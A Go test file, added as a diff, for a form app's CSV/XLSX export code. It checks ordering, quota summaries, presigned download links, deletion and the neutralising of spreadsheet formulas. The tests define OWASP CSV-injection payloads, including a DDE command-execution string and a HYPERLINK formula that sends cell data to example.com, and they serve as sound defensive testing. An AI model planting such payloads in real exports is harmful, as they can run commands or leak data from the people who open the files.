@@ -1,0 +1,566 @@
+package export_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/s3"
+	"github.com/xuri/excelize/v2"
+
+	"loa/content"
+	"loa/functions/export"
+	"loa/functions/forms"
+	"loa/functions/localstore"
+	"loa/functions/store"
+	"loa/functions/vntext"
+)
+
+const bucket = "loa-test"
+
+// The OWASP CSV-injection payloads every export must make inert.
+var payloads = []string{
+	"=1+1", "+SUM(A1)", "-2", "@cmd", "\t=x", "\r=x", "\n=x",
+	`=HYPERLINK("http://example.com/?q="&A1,"Bấm vào đây")`,
+	"=cmd|' /C calc'!A0",
+}
+
+type env struct {
+	t   *testing.T
+	srv *localstore.Server
+	st  *store.Store
+	ex  *export.Exporter
+	reg *forms.Registry
+
+	mu  sync.Mutex
+	now time.Time // the store's clock: each save may set it
+}
+
+var exportDay = time.Date(2023, 4, 20, 8, 30, 0, 0, vntext.Location)
+
+func newEnv(t *testing.T, tweak func(*export.Config)) *env {
+	t.Helper()
+	srv, err := localstore.Start("", bucket)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { srv.Close() })
+	reg, err := forms.Load(content.FS)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := &env{t: t, srv: srv, reg: reg, now: time.Date(2023, 4, 5, 9, 0, 0, 0, time.UTC)}
+	e.st, err = store.New(srv.Client, store.Config{Bucket: bucket, Prefix: "loa/", Now: e.clock})
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg := export.Config{
+		Store: e.st, S3: srv.Client, Presign: s3.NewPresignClient(srv.Client),
+		Bucket: bucket, Prefix: "loa/", TempDir: t.TempDir(),
+		Now: func() time.Time { return exportDay },
+	}
+	if tweak != nil {
+		tweak(&cfg)
+	}
+	if e.ex, err = export.New(cfg); err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+func (e *env) clock() time.Time {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	return e.now
+}
+
+// save stores values as a submission of form accepted at t, bypassing
+// validation so that any value (a payload with a leading tab) can be stored.
+func (e *env) save(form string, t time.Time, values map[string]string) store.Receipt {
+	e.t.Helper()
+	f := e.reg.Form(form)
+	vals := map[string]string{}
+	for _, fl := range f.Fields {
+		vals[fl.Name] = values[fl.Name]
+	}
+	e.mu.Lock()
+	e.now = t
+	e.mu.Unlock()
+	rc, err := e.st.Save(context.Background(), &forms.Submission{Form: f, Values: vals})
+	if err != nil {
+		e.t.Fatalf("save %s: %v", form, err)
+	}
+	return rc
+}
+
+type want struct {
+	id   string
+	time time.Time
+	vals map[string]string
+}
+
+// seedQuestions stores n questions whose times are shuffled against the
+// order of their keys, with every payload in a name or a question, a
+// phone on some, and two rows at the same instant.
+func (e *env) seedQuestions(n int) []want {
+	f := e.reg.Form("cau-hoi")
+	base := time.Date(2023, 4, 2, 7, 0, 0, 0, vntext.Location)
+	var all []want
+	for i := range n {
+		// A permutation of 0..n-1, so saving order is not time order.
+		k := (i * 7) % n
+		t := base.Add(time.Duration(k) * 37 * time.Minute)
+		if i == 1 {
+			t = all[0].time // a tie, broken by id
+		}
+		v := map[string]string{
+			"ho_ten":   fmt.Sprintf("Nguyễn Thị Mai %d", i),
+			"nam_sinh": strconv.Itoa(1990 + i%10),
+			"chi_doan": f.ChiDoan[i%len(f.ChiDoan)],
+			"email":    fmt.Sprintf("mai%d@example.vn", i),
+			"linh_vuc": f.Topics[i%len(f.Topics)],
+			"noi_dung": fmt.Sprintf("Câu hỏi số %d về việc làm,\n\"chuyển đổi số\"; ổn định?", i),
+			"dong_y":   "2023-04-01",
+		}
+		if i%3 == 0 {
+			v["dien_thoai"] = "0912345678"
+		}
+		if i < len(payloads) {
+			v["ho_ten"] = payloads[i]
+			v["noi_dung"] = payloads[len(payloads)-1-i]
+		}
+		rc := e.save("cau-hoi", t, v)
+		all = append(all, want{id: rc.ID, time: t, vals: v})
+	}
+	slices.SortFunc(all, func(a, b want) int {
+		if c := a.time.Compare(b.time); c != 0 {
+			return c
+		}
+		return strings.Compare(a.id, b.id)
+	})
+	return all
+}
+
+func (e *env) write(form string, format export.Format) []byte {
+	e.t.Helper()
+	var b bytes.Buffer
+	if _, err := e.ex.Write(context.Background(), e.reg.Form(form), format, &b, nil); err != nil {
+		e.t.Fatalf("export %s %s: %v", form, format, err)
+	}
+	return b.Bytes()
+}
+
+func parseCSV(t *testing.T, data []byte) [][]string {
+	t.Helper()
+	if !bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) {
+		t.Fatalf("CSV does not start with a UTF-8 BOM: %q", data[:min(len(data), 20)])
+	}
+	r := csv.NewReader(bytes.NewReader(data[3:]))
+	recs, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("CSV does not parse: %v", err)
+	}
+	return recs
+}
+
+func readXLSX(t *testing.T, data []byte, sheet string) (*excelize.File, [][]string) {
+	t.Helper()
+	x, err := excelize.OpenReader(bytes.NewReader(data))
+	if err != nil {
+		t.Fatalf("XLSX does not open: %v", err)
+	}
+	t.Cleanup(func() { x.Close() })
+	rows, err := x.GetRows(sheet)
+	if err != nil {
+		t.Fatalf("XLSX sheet %q: %v", sheet, err)
+	}
+	return x, rows
+}
+
+// inert reports whether a cell cannot start a formula.
+func inert(s string) bool {
+	return s == "" || !strings.ContainsRune("=+-@\t\r\n", rune(s[0]))
+}
+
+func TestExportCSVAndXLSX(t *testing.T) {
+	// Tiny pages, runs and concurrency: every page boundary, spill and merge is walked.
+	e := newEnv(t, func(c *export.Config) { c.PageSize = 7; c.RunBytes = 2 << 10; c.Concurrency = 3 })
+	all := e.seedQuestions(61)
+	f := e.reg.Form("cau-hoi")
+
+	recs := parseCSV(t, e.write("cau-hoi", export.CSV))
+	wantHeader := []string{"Mã", "Thời điểm gửi", "Họ và tên", "Năm sinh", "Chi đoàn", "Số điện thoại", "Email", "Lĩnh vực", "Nội dung câu hỏi", "Phiên bản thông báo đồng ý"}
+	if !slices.Equal(recs[0], wantHeader) {
+		t.Fatalf("header\n got %q\nwant %q", recs[0], wantHeader)
+	}
+	if len(recs)-1 != len(all) {
+		t.Fatalf("%d rows, want %d", len(recs)-1, len(all))
+	}
+	for i, w := range all {
+		row := recs[i+1]
+		if row[0] != w.id {
+			t.Fatalf("row %d: id %s, want %s (order by time, then id)", i+1, row[0], w.id)
+		}
+		if got := w.time.In(vntext.Location).Format(export.TimeLayout); row[1] != got {
+			t.Errorf("row %d: time %q, want %q", i+1, row[1], got)
+		}
+		for j, fl := range f.Fields {
+			v := strings.ReplaceAll(strings.ReplaceAll(w.vals[fl.Name], "\r\n", "\n"), "\r", "\n")
+			if !inert(v) {
+				v = "'" + v
+			}
+			if row[j+2] != v {
+				t.Errorf("row %d, %s: %q, want %q", i+1, fl.Label, row[j+2], v)
+			}
+		}
+	}
+	phones := 0
+	for _, row := range recs[1:] {
+		for j, cell := range row {
+			if !inert(cell) {
+				t.Errorf("CSV cell %q (column %s) can start a formula", cell, recs[0][j])
+			}
+		}
+		if row[5] == "0912345678" {
+			phones++
+		}
+	}
+	if phones == 0 {
+		t.Error("no phone 0912345678 kept as written")
+	}
+
+	data := e.write("cau-hoi", export.XLSX)
+	x, rows := readXLSX(t, data, export.SheetRows)
+	if len(rows) != len(recs) {
+		t.Fatalf("XLSX has %d rows, CSV %d", len(rows), len(recs))
+	}
+	for i := range recs {
+		got := append(rows[i], make([]string, len(recs[i])-len(rows[i]))...) // GetRows drops trailing empty cells
+		if !slices.Equal(got, recs[i]) {
+			t.Fatalf("XLSX row %d differs from CSV:\n xlsx %q\n  csv %q", i+1, rows[i], recs[i])
+		}
+	}
+	for i := range rows {
+		for j := range rows[i] {
+			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
+			if fo, _ := x.GetCellFormula(export.SheetRows, cell); fo != "" {
+				t.Errorf("XLSX %s holds a formula %q", cell, fo)
+			}
+		}
+	}
+	// The phone column: text cells with the text number format "@".
+	for i, row := range rows[1:] {
+		if len(row) < 6 || row[5] == "" {
+			continue
+		}
+		cell := "F" + strconv.Itoa(i+2)
+		typ, _ := x.GetCellType(export.SheetRows, cell)
+		if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+			t.Errorf("phone %s is of type %v, want text", cell, typ)
+		}
+		sid, _ := x.GetCellStyle(export.SheetRows, cell)
+		st, _ := x.GetStyle(sid)
+		if st == nil || st.NumFmt != 49 {
+			t.Errorf("phone %s has no text format", cell)
+		}
+	}
+	panes, err := x.GetPanes(export.SheetRows)
+	if err != nil || !panes.Freeze || panes.YSplit != 1 {
+		t.Errorf("header row not frozen: %+v %v", panes, err)
+	}
+	sid, _ := x.GetCellStyle(export.SheetRows, "A1")
+	if st, _ := x.GetStyle(sid); st == nil || st.Font == nil || !st.Font.Bold {
+		t.Error("header not bold")
+	}
+	if w, _ := x.GetColWidth(export.SheetRows, "I"); w < 40 {
+		t.Errorf("question column width %v, want a wide column", w)
+	}
+}
+
+func TestEmptyExport(t *testing.T) {
+	e := newEnv(t, nil)
+	recs := parseCSV(t, e.write("cau-hoi", export.CSV))
+	if len(recs) != 1 || recs[0][0] != "Mã" {
+		t.Fatalf("empty export: %q", recs)
+	}
+	_, rows := readXLSX(t, e.write("cau-hoi", export.XLSX), export.SheetRows)
+	if len(rows) != 1 {
+		t.Fatalf("empty XLSX: %q", rows)
+	}
+}
+
+func TestDelegatesGroupedWithSummary(t *testing.T) {
+	e := newEnv(t, func(c *export.Config) { c.PageSize = 2 })
+	f := e.reg.Form("dai-bieu")
+	base := time.Date(2023, 4, 3, 8, 0, 0, 0, vntext.Location)
+	plan := []int{2, 0, 2, 0, 0, 4, 0, 0, 2} // chi đoàn index per registration, in time order
+	var ids []string
+	for i, g := range plan {
+		rc := e.save("dai-bieu", base.Add(time.Duration(i)*time.Hour), map[string]string{
+			"chi_doan": f.ChiDoan[g], "ho_ten": fmt.Sprintf("Trần Văn %c", 'A'+i), "chuc_vu": "Bí thư",
+			"nam_sinh": "1995", "dien_thoai": "0987654321", "dong_y": "2023-04-01",
+		})
+		ids = append(ids, rc.ID)
+	}
+	// Chi đoàn 0 is full: a sixth is refused.
+	_, err := e.st.Save(context.Background(), &forms.Submission{Form: f, Values: map[string]string{
+		"chi_doan": f.ChiDoan[0], "ho_ten": "Người thứ sáu", "chuc_vu": "Đoàn viên", "nam_sinh": "1999",
+		"dien_thoai": "0911111111", "dong_y": "2023-04-01",
+	}})
+	var qe *store.QuotaError
+	if !errors.As(err, &qe) {
+		t.Fatalf("sixth delegate: %v, want a quota error", err)
+	}
+
+	recs := parseCSV(t, e.write("dai-bieu", export.CSV))
+	var groups, got []string
+	for _, r := range recs[1:] {
+		groups = append(groups, r[2])
+		got = append(got, r[0])
+	}
+	// By chi đoàn in the list's order, then by time.
+	wantOrder := []string{ids[1], ids[3], ids[4], ids[6], ids[7], ids[0], ids[2], ids[8], ids[5]}
+	if !slices.Equal(got, wantOrder) {
+		t.Fatalf("order %v (groups %q), want %v", got, groups, wantOrder)
+	}
+
+	sum := parseCSV(t, e.write("dai-bieu", export.Summary))
+	if !slices.Equal(sum[0], []string{"Chi đoàn", "Đã đăng ký", "Số lượng tối đa", "Còn thiếu", "Ghi chú"}) {
+		t.Fatalf("summary header %q", sum[0])
+	}
+	if len(sum)-1 != len(f.ChiDoan) {
+		t.Fatalf("summary has %d chi đoàn, want %d", len(sum)-1, len(f.ChiDoan))
+	}
+	wantSum := map[string][]string{
+		f.ChiDoan[0]: {"5", "5", "0", "Đủ"},
+		f.ChiDoan[2]: {"3", "5", "2", "Còn thiếu"},
+		f.ChiDoan[4]: {"1", "5", "4", "Còn thiếu"},
+		f.ChiDoan[1]: {"0", "5", "5", "Chưa có đại biểu"},
+	}
+	for _, r := range sum[1:] {
+		if w, ok := wantSum[r[0]]; ok && !slices.Equal(r[1:], w) {
+			t.Errorf("summary %s: %q, want %q", r[0], r[1:], w)
+		}
+	}
+
+	x, rows := readXLSX(t, e.write("dai-bieu", export.XLSX), export.SheetRows)
+	if len(rows) != len(recs) || rows[1][0] != ids[1] {
+		t.Fatalf("XLSX rows %d, first %q", len(rows), rows[1])
+	}
+	srows, err := x.GetRows(export.SheetSummary)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if srows[1][0] != f.ChiDoan[0] || srows[1][1] != "5" || srows[2][4] != "Chưa có đại biểu" {
+		t.Errorf("summary sheet: %q", srows[:3])
+	}
+	joined := fmt.Sprint(srows)
+	if !strings.Contains(joined, "Chi đoàn chưa có đại biểu: 5") || !strings.Contains(joined, f.ChiDoan[7]) {
+		t.Errorf("summary sheet does not list the chi đoàn without delegates: %s", joined)
+	}
+	if _, err := e.ex.Write(context.Background(), e.reg.Form("cau-hoi"), export.Summary, io.Discard, nil); !errors.Is(err, export.ErrFormat) {
+		t.Errorf("summary of a form without quota: %v", err)
+	}
+}
+
+func TestPublishLinkAndDelete(t *testing.T) {
+	e := newEnv(t, nil)
+	all := e.seedQuestions(12)
+	f := e.reg.Form("cau-hoi")
+	link, err := e.ex.Publish(context.Background(), f, export.CSV)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if link.FileName != "cau-hoi-2023-04-20.csv" || link.Rows != 12 {
+		t.Errorf("link %+v", link)
+	}
+	u, err := url.Parse(link.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	q := u.Query()
+	exp, err := strconv.Atoi(q.Get("X-Amz-Expires"))
+	if err != nil || exp <= 0 || exp > 15*60 {
+		t.Errorf("X-Amz-Expires %q: want at most 900 seconds", q.Get("X-Amz-Expires"))
+	}
+	if d := q.Get("response-content-disposition"); d != `attachment; filename="cau-hoi-2023-04-20.csv"` {
+		t.Errorf("response-content-disposition %q", d)
+	}
+	if !strings.Contains(u.Path, "/loa/exports/cau-hoi/cau-hoi-2023-04-20-") {
+		t.Errorf("export key %s is not under loa/exports/cau-hoi/", u.Path)
+	}
+	res, err := http.Get(link.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	body, _ := io.ReadAll(res.Body)
+	res.Body.Close()
+	if res.StatusCode != 200 || len(parseCSV(t, body)) != 13 {
+		t.Fatalf("download: %d, %d bytes", res.StatusCode, len(body))
+	}
+
+	// Delete one: the row goes, and so do the stored exports that hold it.
+	gone := all[4]
+	if err := e.ex.Delete(context.Background(), f, gone.id); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.ex.Delete(context.Background(), f, gone.id); !errors.Is(err, store.ErrNotFound) {
+		t.Errorf("second delete: %v, want ErrNotFound", err)
+	}
+	recs := parseCSV(t, e.write("cau-hoi", export.CSV))
+	if len(recs) != 12 {
+		t.Errorf("%d rows after delete, want 11", len(recs)-1)
+	}
+	for _, r := range recs {
+		if r[0] == gone.id {
+			t.Error("deleted row still exported")
+		}
+	}
+	out, err := e.srv.Client.ListObjectsV2(context.Background(), &s3.ListObjectsV2Input{Bucket: aws.String(bucket), Prefix: aws.String("loa/exports/")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(out.Contents) != 0 {
+		t.Errorf("%d stored exports survive a deletion", len(out.Contents))
+	}
+}
+
+func TestDeleteFreesSlot(t *testing.T) {
+	e := newEnv(t, nil)
+	f := e.reg.Form("dai-bieu")
+	var ids []string
+	for i := range 5 {
+		rc := e.save("dai-bieu", time.Date(2023, 4, 3, 8, i, 0, 0, vntext.Location), map[string]string{
+			"chi_doan": f.ChiDoan[3], "ho_ten": fmt.Sprintf("Lê Thị %d", i), "chuc_vu": "Đoàn viên",
+			"nam_sinh": "1996", "dien_thoai": "0987000000", "dong_y": "2023-04-01",
+		})
+		ids = append(ids, rc.ID)
+	}
+	sixth := &forms.Submission{Form: f, Values: map[string]string{
+		"chi_doan": f.ChiDoan[3], "ho_ten": "Phạm Văn Sáu", "chuc_vu": "Đoàn viên", "nam_sinh": "1996",
+		"dien_thoai": "0987000006", "dong_y": "2023-04-01",
+	}}
+	var qe *store.QuotaError
+	if _, err := e.st.Save(context.Background(), sixth); !errors.As(err, &qe) {
+		t.Fatalf("sixth before delete: %v", err)
+	}
+	if err := e.ex.Delete(context.Background(), f, ids[2]); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := e.st.Save(context.Background(), sixth); err != nil {
+		t.Fatalf("the freed slot was not given to the next delegate: %v", err)
+	}
+	recs := parseCSV(t, e.write("dai-bieu", export.CSV))
+	if len(recs) != 6 {
+		t.Fatalf("%d rows, want 5", len(recs)-1)
+	}
+	for _, r := range recs[1:] {
+		if r[0] == ids[2] {
+			t.Error("deleted delegate still exported")
+		}
+	}
+}
+
+func TestStats(t *testing.T) {
+	e := newEnv(t, nil)
+	all := e.seedQuestions(20)
+	fd := e.reg.Form("dai-bieu")
+	e.save("dai-bieu", time.Date(2023, 4, 3, 8, 0, 0, 0, vntext.Location), map[string]string{
+		"chi_doan": fd.ChiDoan[1], "ho_ten": "Đỗ Văn Một", "chuc_vu": "Bí thư", "nam_sinh": "1994",
+		"dien_thoai": "0900000001", "dong_y": "2023-04-01",
+	})
+	st, err := e.ex.Stats(context.Background(), e.reg.Forms())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(st.Forms) != 2 {
+		t.Fatalf("%d forms", len(st.Forms))
+	}
+	q := st.Forms[0]
+	if q.ID != "cau-hoi" || q.Total != 20 {
+		t.Fatalf("cau-hoi: %+v", q)
+	}
+	fq := e.reg.Form("cau-hoi")
+	if q.TopicLabel != "Lĩnh vực" || len(q.Topics) != len(fq.Topics)+1 || q.Topics[len(q.Topics)-1].Name != forms.Other {
+		t.Errorf("topics %+v", q.Topics)
+	}
+	sum := 0
+	for i, tc := range q.Topics {
+		sum += tc.Count
+		if i < len(fq.Topics) && tc.Name != fq.Topics[i] {
+			t.Errorf("topic %d is %q, want %q", i, tc.Name, fq.Topics[i])
+		}
+	}
+	days := 0
+	for _, d := range q.Days {
+		days += d.Count
+	}
+	first := all[0].time.In(vntext.Location).Format("2006-01-02")
+	if sum != 20 || days != 20 || q.Days[0].Name != first {
+		t.Errorf("topics sum %d, days sum %d, first day %v (want %s)", sum, days, q.Days[0], first)
+	}
+	for i := 1; i < len(q.Days); i++ {
+		a, _ := time.Parse("2006-01-02", q.Days[i-1].Name)
+		b, _ := time.Parse("2006-01-02", q.Days[i].Name)
+		if b.Sub(a) != 24*time.Hour {
+			t.Errorf("days not contiguous: %s, %s", q.Days[i-1].Name, q.Days[i].Name)
+		}
+	}
+	d := st.Forms[1]
+	if d.Quota == nil || d.Total != 1 || d.Quota.Quota != 5 || d.Quota.Label != "Chi đoàn" {
+		t.Fatalf("dai-bieu: %+v", d)
+	}
+	if d.Quota.Groups[1].Count != 1 || d.Quota.Groups[1].Missing != 4 || len(d.Quota.None) != len(fd.ChiDoan)-1 {
+		t.Errorf("quota table %+v", d.Quota)
+	}
+	if slices.Contains(d.Quota.None, fd.ChiDoan[1]) {
+		t.Error("a chi đoàn with a delegate is listed as having none")
+	}
+}
+
+func TestNeutralize(t *testing.T) {
+	for _, c := range []struct {
+		in    string
+		phone bool
+		want  string
+	}{
+		{"=1+1", false, "'=1+1"},
+		{"+SUM(A1)", false, "'+SUM(A1)"},
+		{"-2", false, "'-2"},
+		{"@cmd", false, "'@cmd"},
+		{"\t=x", false, "'\t=x"},
+		{"\r=x", false, "'\r=x"},
+		{"\n=x", false, "'\n=x"},
+		{"0912345678", true, "0912345678"},
+		{"+84912345678", true, "+84912345678"},
+		{"+84 912 345 678", true, "+84 912 345 678"},
+		{"+84912345678", false, "'+84912345678"},
+		{"+1+cmd|x", true, "'+1+cmd|x"},
+		{"Nguyễn Văn A", false, "Nguyễn Văn A"},
+		{"", false, ""},
+	} {
+		if got := export.Neutralize(c.in, c.phone); got != c.want {
+			t.Errorf("Neutralize(%q, %v) = %q, want %q", c.in, c.phone, got, c.want)
+		}
+	}
+}
+
+func TestExpiryBound(t *testing.T) {
+	e := newEnv(t, nil)
+	_, err := export.New(export.Config{Store: e.st, S3: e.srv.Client, Bucket: bucket, Expiry: 16 * time.Minute})
+	if err == nil {
+		t.Error("a link expiry over 15 minutes was accepted")
+	}
+}
